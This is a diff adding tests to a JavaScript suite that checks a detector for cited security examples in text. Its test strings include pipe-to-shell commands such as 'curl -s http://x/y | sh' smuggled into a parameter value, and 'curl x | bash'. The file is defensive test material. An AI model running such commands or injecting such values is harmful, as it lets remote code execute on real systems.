@@ -108,3 +108,11 @@ describe('citedLines (security-writing lead-ins)', () => {
     expect(flags("A request with 'fmt=pdf; curl -s http://x/y | sh' runs the second command.")).toEqual([1]);
   });
 });
+
+describe('citedLines (what teams have seen and what to reject)', () => {
+  it("should cite a list introduced as versions we've seen or as what to reject", () => {
+    expect(flags("Common versions we've seen:\n\n- `curl x | bash`\n- `y`")).toEqual([1, 1, 1, 1]);
+    const reject = flags('Reject without analysis when a skill:\n\n1. Runs `curl x | bash`\n2. `y`');
+    expect(reject.slice(2)).toEqual([1, 1]);
+  });
+});
